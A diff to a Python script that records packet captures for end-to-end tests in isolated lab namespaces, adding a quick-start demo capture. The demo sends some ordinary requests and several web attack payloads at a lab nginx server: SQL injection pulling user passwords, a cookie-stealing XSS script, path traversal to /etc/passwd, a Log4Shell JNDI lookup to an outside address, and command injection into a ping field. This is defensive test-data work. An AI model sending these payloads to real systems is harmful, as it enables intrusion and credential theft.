@@ -1,13 +1,14 @@
 #!/usr/bin/env python3
 """Records the captures that the end-to-end tests use, with real clients and servers in namespaces of its own.
 
-  record.py OUT [--clean] [--attack] [--no-browser]
+  record.py OUT [--clean] [--attack] [--demo] [--no-browser]
 
   OUT/clean.pcap    curl, wget, http.client, ab, wrk and Chromium against nginx, Apache and HAProxy
   OUT/tagged.pcap   clean.pcap with an 802.1Q tag on IPv4 and two tags (802.1ad) on IPv6 frames, added to the
                     recorded frames: not every kernel has VLAN devices
   OUT/proxied.pcap  the leg between HAProxy (or nginx) and what is behind it, on the loopback interface
   OUT/attack.pcap   sqlmap and hand-made attacks against Apache with Debian's mod_security2, which only detects
+  OUT/demo.pcap     the capture of the quick start (tests/pcap/demo.pcap), only with --demo
   OUT/attack.json   what mod_security2 logged: see lab/modsec2.py
 """
 import argparse
@@ -69,15 +70,42 @@ def record_attack(out: pathlib.Path, work: pathlib.Path):
     (out / "attack.json").write_text(json.dumps({"labels": labels, "transactions": logged}, indent=1))
 
 
+def record_demo(out: pathlib.Path, work: pathlib.Path):
+    """The small capture of the quick start: a person, a script, and somebody who tries the doors."""
+    with namespaces.Lab() as lab:
+        site = work / "site"
+        servers.make_site(site)
+        servers.start_backend(lab)
+        servers.start_nginx(lab, work, site)
+        capture = servers.Capture(lab, out / "demo.pcap", expression="tcp")
+        port = servers.PORTS["nginx"]
+        clean_traffic.browse(lab, work, lab.server4, port)
+        agent = ["-A", attack_traffic.AGENT, "-H", "Host: shop.example", "-s", "-m", "10", "-o", "/dev/null"]
+        base = f"http://{lab.server4}:{port}"
+        for words in (
+            [f"{base}/style.css", f"{base}/small.txt?q=red+shoes&page=2"],
+            ["-d", "name=Ada+Lovelace&comment=Where%27s+my+order%3F", f"{base}/app/contact"],
+            ["-H", "Content-Type: application/json", "-d", '{"item":7,"note":"gift wrap, please"}', f"{base}/app/cart"],
+            [f"{base}/app/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-"],
+            ["-d", "comment=%3Cscript%3Ealert(document.cookie)%3C/script%3E", f"{base}/app/contact"],
+            ["--path-as-is", f"{base}/app/download?file=../../../../etc/passwd"],
+            ["-H", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}", f"{base}/app/"],
+            ["-H", "Content-Type: application/json", "-d", '{"host":"127.0.0.1; cat /etc/passwd"}', f"{base}/app/ping"],
+        ):
+            lab.run("client", "curl", *agent, *words)
+        capture.stop()
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("out", type=pathlib.Path)
     parser.add_argument("--clean", action="store_true")
     parser.add_argument("--attack", action="store_true")
+    parser.add_argument("--demo", action="store_true")
     parser.add_argument("--no-browser", action="store_true")
     args = parser.parse_args()
     args.out.mkdir(parents=True, exist_ok=True)
-    both = not (args.clean or args.attack)
+    both = not (args.clean or args.attack or args.demo)
     work = pathlib.Path(tempfile.mkdtemp(prefix="weir-lab-"))
     work.chmod(0o755)
     try:
@@ -85,6 +113,8 @@ def main():
             record_clean(args.out, work, not args.no_browser)
         if args.attack or both:
             record_attack(args.out, work)
+        if args.demo:
+            record_demo(args.out, work)
     finally:
         shutil.rmtree(work, ignore_errors=True)
 
